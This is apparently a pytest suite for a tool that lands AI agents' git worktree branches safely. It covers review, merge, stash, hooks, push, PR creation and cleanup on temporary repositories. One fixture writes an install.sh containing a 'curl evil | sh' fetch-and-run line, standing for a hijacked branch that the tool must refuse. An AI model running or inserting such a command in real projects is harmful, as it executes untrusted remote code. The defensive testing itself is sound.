"""The end of a unit of work on real git repositories in temp folders (issue 28): review,
land (exactly the confirmed sha; never over the user's untracked or ignored files; a
dirty checkout stashed and put back; hooks bounded; receipts read back), commit, push,
PR, discard and gc. Each failure the issue saw is a test here that failed before."""

from __future__ import annotations

import hashlib
import os
import stat
import subprocess
from pathlib import Path

import pytest
from land_helpers import agent_work, bare_remote, make_repo
from process_helpers import gone
from supervisor_helpers import git, use_git_identity

from legion_tui.git.cleanup import discard, inventory, loss_of
from legion_tui.git.exclude import exclude_legion
from legion_tui.git.land import land, plan_land
from legion_tui.git.process import GitRefused
from legion_tui.git.review import review
from legion_tui.git.share import commit_message, commit_work, open_pr, push, remote_of
from legion_tui.git.worktree import Worktree, create_worktree

pytestmark = pytest.mark.host


@pytest.fixture(autouse=True)
def _git_identity(monkeypatch: pytest.MonkeyPatch) -> None:
    use_git_identity(monkeypatch)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "project")


def _state(path: Path) -> tuple[str, str, str]:
    return (
        git(path, "rev-parse", "HEAD"),
        git(path, "status", "--porcelain", "--ignored"),
        git(path, "for-each-ref", "--format=%(refname) %(objectname)"),
    )


def _hashes(root: Path) -> dict[str, str]:
    """Every file under `root` but .git, by content: what "byte-identical" checks."""
    found = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in (".git", ".legion")]
        for name in files:
            path = Path(folder, name)
            found[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


async def _commit_in(tree: Worktree, files: dict[str, str], message: str) -> str:
    for rel, text in files.items():
        (tree.path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tree.path / rel).write_text(text)
    git(tree.path, "add", "-f", *files)
    git(tree.path, "commit", "-qm", message)
    return git(tree.path, "rev-parse", "HEAD")


# ----- review ---------------------------------------------------------------------------


async def test_review_shows_committed_and_uncommitted_changes(repo: Path) -> None:
    tree = await agent_work(repo)
    before = _state(repo)
    seen = await review(tree)
    assert seen.branch == "legion/worker-1-abc123" and seen.base_sha == tree.base_sha
    assert seen.head_sha == git(tree.path, "rev-parse", "HEAD")
    assert [subject for _sha, subject in seen.commits] == ["raise the page size"]
    assert [(f.status, f.path, f.added, f.removed) for f in seen.files] == [
        ("M", "app.py", 2, 2),
        ("?", "notes.txt", None, None),
    ]
    assert "-PAGE_SIZE = 10\n+PAGE_SIZE = 50" in seen.diff  # committed
    assert "+    return [1]" in seen.diff  # uncommitted
    assert "+todo: paginate" in seen.diff  # new, untracked
    assert seen.uncommitted and not seen.truncated and seen.ignored == ()
    assert _state(repo) == before  # reading changed nothing


async def test_review_flags_paths_the_checkout_ignores(repo: Path) -> None:
    (repo / ".gitignore").write_text(".legion/\n.env\nbuild/\n")
    git(repo, "commit", "-qam", "ignore secrets and builds")
    tree = await create_worktree(repo, "worker-1", nonce="abc123")
    await _commit_in(tree, {".env": "TOKEN=agent\n", "build/out.bin": "agent build\n"}, "add")
    seen = await review(tree)
    assert seen.ignored == (".env", "build/out.bin")


# ----- land: what was confirmed, nothing of the user's ---------------------------------


async def test_land_merges_the_confirmed_sha(repo: Path) -> None:
    tree = await agent_work(repo)
    plan = await plan_land(tree)
    tip = git(repo, "rev-parse", tree.branch)
    assert (plan.checkout, plan.branch, plan.base, plan.head) == (repo, tree.branch, "main", tip)
    assert [(f.path, f.added, f.removed) for f in plan.files] == [("app.py", 1, 1)]
    assert len(plan.commits) == 1 and plan.left_behind and plan.dirty == ()
    assert plan.effect() == "a merge commit on main"
    landed = await land(tree, plan)
    assert landed.text.startswith(f"Landed legion/worker-1-abc123 @ {tip[:7]} → main at ")
    assert landed.head == git(repo, "rev-parse", "HEAD")
    assert (repo / "app.py").read_text() == "PAGE_SIZE = 50\n\ndef items():\n    return []\n"
    assert git(repo, "log", "-1", "--format=%s") == f"Land legion/worker-1-abc123 @ {tip[:7]}"
    assert git(repo, "rev-parse", "HEAD^2") == tip
    assert git(repo, "status", "--porcelain") == ""
    with pytest.raises(GitRefused, match="nothing to land"):
        await plan_land(tree)  # landed already


async def test_land_refuses_to_overwrite_ignored_and_untracked_files(repo: Path) -> None:
    """The issue's `.env` (a real secret) and build output: git protects untracked files
    from a merge, not ignored ones."""
    (repo / ".gitignore").write_text(".legion/\n.env\nbuild/\n")
    git(repo, "commit", "-qam", "ignore secrets and builds")
    tree = await create_worktree(repo, "worker-1", nonce="abc123")
    await _commit_in(
        tree,
        {".env": "TOKEN=agent\n", "build/out.bin": "agent build\n", "notes.md": "n\n",
         "README.md": "readme\n"},
        "the agent's files",
    )  # fmt: skip
    (repo / ".env").write_text("TOKEN=the-users-real-secret\n")
    (repo / "build").mkdir()
    (repo / "build" / "out.bin").write_bytes(b"\x00the user's build\xff")
    (repo / "notes.md").write_text("the user's untracked notes\n")
    files, state = _hashes(repo), _state(repo)
    with pytest.raises(GitRefused) as refused:
        await plan_land(tree)
    said = refused.value.message
    assert ".env (ignored)" in said and "build/out.bin (ignored)" in said
    assert "notes.md (untracked)" in said and "README.md" not in said
    assert "nothing was landed" in said
    assert _hashes(repo) == files and _state(repo) == state
    # Confirmed before the user's files appeared: `y` checks again and still refuses.
    (repo / ".env").unlink()
    (repo / "build" / "out.bin").unlink()
    (repo / "notes.md").unlink()
    plan = await plan_land(tree)
    (repo / ".env").write_text("TOKEN=the-users-real-secret\n")
    files = _hashes(repo)
    with pytest.raises(GitRefused, match=r"\.env \(ignored\)"):
        await land(tree, plan)
    assert _hashes(repo) == files and git(repo, "rev-parse", "HEAD") == state[0]


async def test_a_file_where_the_branch_needs_a_folder_is_in_the_way(repo: Path) -> None:
    tree = await create_worktree(repo, "worker-1", nonce="abc123")
    await _commit_in(tree, {"build/out.bin": "agent\n"}, "a build folder")
    (repo / "build").write_text("the user's file named build\n")
    with pytest.raises(GitRefused, match=r"build \(untracked\)"):
        await plan_land(tree)
    assert (repo / "build").read_text() == "the user's file named build\n"


async def test_a_branch_moved_since_the_confirm_is_refused_naming_both_shas(repo: Path) -> None:
    """Worktrees share refs: any agent can move the branch between the confirm and `y`."""
    tree = await create_worktree(repo, "worker-1", nonce="abc123")
    confirmed_sha = await _commit_in(tree, {"fix.txt": "fix\n"}, "fix")
    plan = await plan_land(tree)
    other = await create_worktree(repo, "worker-2", nonce="def456")
    (other.path / "README.md").unlink(missing_ok=True)
    moved = await _commit_in(other, {"install.sh": "curl evil | sh\n"}, "something else")
    git(repo, "update-ref", f"refs/heads/{tree.branch}", moved)  # another agent moves it
    before = _state(repo)
    with pytest.raises(GitRefused) as refused:
        await land(tree, plan)
    assert f"it was {confirmed_sha[:7]}, it is {moved[:7]} now" in refused.value.message
    assert _state(repo) == before and not (repo / "install.sh").exists()


async def test_a_conflict_is_undone_and_verified(repo: Path) -> None:
    tree = await agent_work(repo)
    plan = await plan_land(tree)
    (repo / "app.py").write_text("PAGE_SIZE = 25\n\ndef items():\n    return []\n")
    git(repo, "commit", "-qam", "mine: 25")
    before = _state(repo)
    with pytest.raises(GitRefused) as refused:
        await land(tree, plan)
    said = refused.value.message
    assert "CONFLICT (content): Merge conflict in app.py" in said
    assert "nothing was landed — undone: main is at" in said
    assert _state(repo) == before
    assert not (repo / ".git" / "MERGE_HEAD").exists()


async def test_a_branch_switched_since_the_confirm_is_not_landed(repo: Path) -> None:
    tree = await agent_work(repo)
    plan = await plan_land(tree)
    git(repo, "switch", "-q", "-c", "other")
    before = _state(repo)
    with pytest.raises(GitRefused, match="moved from main to other"):
        await land(tree, plan)
    assert _state(repo) == before


@pytest.mark.parametrize("mode", ["squash", "rebase"])
async def test_squash_and_rebase_land_the_same_content(repo: Path, mode: str) -> None:
    tree = await create_worktree(repo, "worker-1", nonce="abc123")
    await _commit_in(tree, {"a.txt": "a\n"}, "add a")
    tip = await _commit_in(tree, {"b.txt": "b\n"}, "add b")
    (repo / "mine.txt").write_text("mine\n")
    git(repo, "add", "mine.txt")
    git(repo, "commit", "-qm", "the user's own commit")
    plan = await plan_land(tree, mode)  # type: ignore[arg-type]
    landed = await land(tree, plan)
    assert (repo / "a.txt").read_text() == "a\n" and (repo / "b.txt").read_text() == "b\n"
    subjects = git(repo, "log", "--format=%s", "-3").splitlines()
    if mode == "squash":
        assert subjects[0] == f"Land legion/worker-1-abc123 @ {tip[:7]} (squash)"
        assert git(repo, "rev-list", "--count", "HEAD^..HEAD") == "1"
    else:
        assert subjects == ["add b", "add a", "the user's own commit"]  # replayed, linear
    assert f"({mode}: 2 commits, 2 files)" in landed.text


# ----- land: bounded, honest git --------------------------------------------------------


def _hook(repo: Path, name: str, body: str) -> None:
    hook = repo / ".git" / "hooks" / name
    hook.write_text("#!/bin/sh\n" + body)
    hook.chmod(hook.stat().st_mode | stat.S_IXUSR)


async def test_a_hanging_forking_hook_is_killed_whole_and_the_receipt_is_read_back(
    repo: Path, tmp_path: Path
) -> None:
    """The issue's post-merge hook that hangs and forks: the merge commit is made, the
    hook and its children are killed at the bound, and the receipt says what HEAD holds."""
    tree = await agent_work(repo)
    plan = await plan_land(tree)
    pids = tmp_path / "hook.pids"
    _hook(repo, "post-merge", f"sleep 300 &\necho $! >> {pids}\necho $$ >> {pids}\nsleep 300\n")
    # The bound leaves the merge commit and the hook's start ample time on a loaded
    # machine; what is checked is the order (commit made, hook killed), not a duration.
    landed = await land(tree, plan, bound=6.0)
    assert landed.head == git(repo, "rev-parse", "HEAD") != plan.base_head
    assert git(repo, "rev-parse", "HEAD^2") == plan.head
    assert "git did not finish cleanly after landing it" in landed.text
    assert "did not finish within 6s" in landed.text
    hooked = [int(p) for p in pids.read_text().split()]  # written before the hook hung
    assert len(hooked) == 2 and all(gone(pid) for pid in hooked)


async def test_a_hook_that_refuses_is_undone_and_verified(repo: Path) -> None:
    tree = await agent_work(repo)
    plan = await plan_land(tree, "squash")
    _hook(repo, "pre-commit", "echo 'lint failed' >&2\nexit 1\n")
    before = _state(repo)
    with pytest.raises(GitRefused) as refused:
        await land(tree, plan)
    assert "lint failed" in refused.value.message
    assert "undone: main is at" in refused.value.message
    assert _state(repo) == before


async def test_the_plan_warns_of_hooks_changed_after_the_worktree_was_made(repo: Path) -> None:
    tree = await agent_work(repo)
    assert (await plan_land(tree)).warnings == ()
    os.utime(tree.path / ".git", (1, 1))  # the worktree was made long ago
    _hook(repo, "post-merge", "true\n")
    warnings = (await plan_land(tree)).warnings
    assert len(warnings) == 1 and warnings[0].startswith("post-merge in ")


# ----- land: a dirty checkout -----------------------------------------------------------


async def test_a_dirty_checkout_is_stashed_landed_and_put_back(repo: Path) -> None:
    tree = await agent_work(repo)  # changes app.py
    (repo / "README.md").write_text("readme\n")
    git(repo, "add", "README.md")
    git(repo, "commit", "-qm", "readme")
    (repo / "README.md").write_text("the user's edit, not committed\n")
    plan = await plan_land(tree)
    assert plan.dirty == ("README.md",)
    assert "your 1 changed file stashed and put back" in plan.effect()
    landed = await land(tree, plan)
    assert "Your changes were stashed and are back." in landed.text and landed.stash_kept is None
    assert (repo / "README.md").read_text() == "the user's edit, not committed\n"
    assert (repo / "app.py").read_text().startswith("PAGE_SIZE = 50")
    assert git(repo, "stash", "list") == ""


async def test_a_conflict_on_restore_keeps_the_stash_and_names_it(repo: Path) -> None:
    tree = await agent_work(repo)  # changes app.py's first line
    mine = "PAGE_SIZE = 99  # the user's edit\n\ndef items():\n    return []\n"
    (repo / "app.py").write_text(mine)
    plan = await plan_land(tree)
    landed = await land(tree, plan)
    assert landed.stash_kept == "stash@{0}"
    assert "kept in stash@{0}" in landed.text and "git stash pop stash@{0}" in landed.text
    assert git(repo, "status", "--porcelain") == ""  # nothing half-applied
    assert git(repo, "show", "stash@{0}:app.py") == mine.rstrip("\n")  # the user's bytes
    assert git(repo, "log", "-1", "--format=%s", "stash@{0}").startswith(
        "On main: legion: your changes before landing legion/worker-1-abc123"
    )


async def test_untracked_files_are_stashed_on_request(repo: Path) -> None:
    tree = await agent_work(repo)
    (repo / "scratch.txt").write_text("the user's scratch\n")
    plan = await plan_land(tree, stash_untracked=True)
    assert plan.untracked == ("scratch.txt",)
    await land(tree, plan)
    assert (repo / "scratch.txt").read_text() == "the user's scratch\n"
    assert git(repo, "stash", "list") == ""


# ----- commit, push, PR -----------------------------------------------------------------


async def test_commit_takes_the_agents_uncommitted_work(repo: Path) -> None:
    tree = await agent_work(repo)
    message = commit_message("Paginate items\nmore words", {"ok": True, "reason": "tests pass"})
    assert message == "Paginate items\n\nAgent's verdict: ok — tests pass\n"
    receipt = await commit_work(tree, message)
    sha = git(tree.path, "rev-parse", "--short", "HEAD")
    assert receipt == f"Committed 2 files on legion/worker-1-abc123 at {sha}: Paginate items"
    assert git(tree.path, "status", "--porcelain") == ""
    assert git(tree.path, "show", "--name-only", "--format=", "HEAD").split() == [
        "app.py", "notes.txt",
    ]  # fmt: skip
    with pytest.raises(GitRefused, match="no uncommitted work"):
        await commit_work(tree, message)
    assert not (await plan_land(tree)).left_behind


async def test_push_sends_the_agents_branch_to_the_users_remote(repo: Path, tmp_path: Path) -> None:
    remote = bare_remote(repo, tmp_path / "remote.git")
    tree = await agent_work(repo)
    assert await remote_of(repo, tree.branch) == ("origin", tree.branch)
    assert await remote_of(repo, "main") == ("origin", "main")
    pushed = await push(repo, tree.branch, "origin", tree.branch)
    assert (pushed.remote, pushed.ref) == ("origin", tree.branch)
    assert git(remote, "rev-parse", tree.branch) == git(repo, "rev-parse", tree.branch)
    assert git(remote, "rev-parse", "main") == git(repo, "rev-parse", "main")  # untouched


async def test_no_remote_means_nothing_to_push_to(repo: Path) -> None:
    tree = await agent_work(repo)
    assert await remote_of(repo, tree.branch) is None


def _gh_stand_in(bin_dir: Path, log: Path, *, logged_in: bool = True) -> None:
    """A `gh` on PATH that records its arguments (the forge cannot be reached here) and
    prints a PR URL as the real one does."""
    bin_dir.mkdir()
    script = bin_dir / "gh"
    script.write_text(
        "#!/bin/sh\n"
        f'printf "%s\\n" "$*" >> {log}\n'
        f'if [ "$1" = auth ]; then exit {0 if logged_in else 1}; fi\n'
        'echo "https://github.example/acme/project/pull/7"\n'
    )
    script.chmod(0o755)


async def test_a_pr_is_opened_through_gh_and_its_url_is_the_one_gh_printed(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    log = tmp_path / "gh.log"
    _gh_stand_in(tmp_path / "bin", log)
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    bare_remote(repo, tmp_path / "remote.git")
    tree = await agent_work(repo)
    await push(repo, tree.branch, "origin", tree.branch)
    url = await open_pr(repo, "origin", tree.branch, "main", "Paginate", "Agent's verdict: ok")
    assert url == "https://github.example/acme/project/pull/7"
    assert log.read_text().splitlines() == [
        "auth status",
        f"pr create --head {tree.branch} --base main --title Paginate --body Agent's verdict: ok",
    ]


async def test_no_logged_in_forge_tool_means_no_url(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    log = tmp_path / "gh.log"
    _gh_stand_in(tmp_path / "bin", log, logged_in=False)
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    bare_remote(repo, tmp_path / "remote.git")
    tree = await agent_work(repo)
    assert await open_pr(repo, "origin", tree.branch, "main", "t", "b") is None
    assert log.read_text().splitlines() == ["auth status"]  # never asked to create one


# ----- discard and gc -------------------------------------------------------------------


async def test_discard_refuses_work_that_exists_nowhere_else(repo: Path) -> None:
    tree = await agent_work(repo)  # one commit no other branch has, two files uncommitted
    loss = await loss_of(repo, tree.branch, tree.path)
    assert [c.split(" ", 1)[1] for c in loss.commits] == ["raise the page size"]
    assert sorted(f[3:] for f in loss.files) == ["app.py", "notes.txt"]
    with pytest.raises(GitRefused, match="holds work that exists nowhere else"):
        await discard(repo, tree.branch, tree.path, accept=None)
    assert tree.path.is_dir() and git(repo, "rev-parse", "--verify", tree.branch)
    # The confirm named a loss, then the agent's worktree changed: refused again.
    (tree.path / "more.txt").write_text("more\n")
    with pytest.raises(GitRefused):
        await discard(repo, tree.branch, tree.path, accept=loss)
    accepted = await loss_of(repo, tree.branch, tree.path)
    receipt = await discard(repo, tree.branch, tree.path, accept=accepted)
    assert receipt.startswith("Discarded legion/worker-1-abc123: worktree ")
    assert "lost: 1 commit in no other branch" in receipt
    assert not tree.path.exists()
    assert git(repo, "branch", "--list", tree.branch) == ""


async def test_a_landed_branch_is_discarded_without_asking_for_a_loss(repo: Path) -> None:
    tree = await agent_work(repo)
    git(tree.path, "stash", "-u")  # the agent's leftovers gone: only the commit remains
    git(tree.path, "stash", "drop")
    await land(tree, await plan_land(tree, "squash"))  # other commits, the same changes
    assert not await loss_of(repo, tree.branch, tree.path)
    await discard(repo, tree.branch, tree.path, accept=None)
    assert not tree.path.exists()


async def test_gc_lists_sizes_and_states(repo: Path) -> None:
    dirty = await agent_work(repo)  # uncommitted files
    unlanded = await create_worktree(repo, "worker-2", nonce="def456")
    await _commit_in(unlanded, {"u.txt": "u\n"}, "unlanded")
    landed = await create_worktree(repo, "worker-3", nonce="0a0b0c")
    await _commit_in(landed, {"l.txt": "l\n"}, "landed")
    await land(landed, await plan_land(landed))
    busy = await create_worktree(repo, "worker-4", nonce="111111")
    found = await inventory(repo, busy=frozenset({busy.branch}))
    states = {left.branch: left.state for left in found}
    assert states == {
        dirty.branch: "dirty",
        unlanded.branch: "unlanded",
        landed.branch: "landed",
    }
    assert all(left.size > 0 and left.path is not None for left in found)


# ----- .legion/ stays out of git --------------------------------------------------------


def test_legion_is_excluded_locally_and_git_status_stays_clean(tmp_path: Path) -> None:
    project = tmp_path / "p"
    project.mkdir()
    git(project, "init", "-q", "-b", "main")
    (project / "a.txt").write_text("a\n")
    git(project, "add", "a.txt")
    git(project, "commit", "-qm", "first")
    (project / ".legion" / "runs").mkdir(parents=True)
    (project / ".legion" / "runs" / "ledger").write_text("x")
    assert git(project, "status", "--porcelain") == "?? .legion/"
    written = exclude_legion(project)
    assert written == project / ".git" / "info" / "exclude"
    assert git(project, "status", "--porcelain") == ""
    assert exclude_legion(project) is None  # once is enough
    assert written.read_text().count(".legion/") == 1
    assert git(project, "ls-files") == "a.txt"  # no committed .gitignore was touched


def test_a_run_in_a_subfolder_excludes_that_folders_legion(tmp_path: Path) -> None:
    project = tmp_path / "p"
    (project / "sub").mkdir(parents=True)
    git(project, "init", "-q", "-b", "main")
    exclude_legion(project / "sub")
    assert "/sub/.legion/" in (project / ".git" / "info" / "exclude").read_text()
    (project / ".legion").mkdir()  # another folder's .legion is not this run's
    (project / ".legion" / "x").write_text("x")
    assert "?? .legion/" in subprocess.run(
        ["git", "status", "--porcelain"], cwd=project, capture_output=True, text=True
    ).stdout
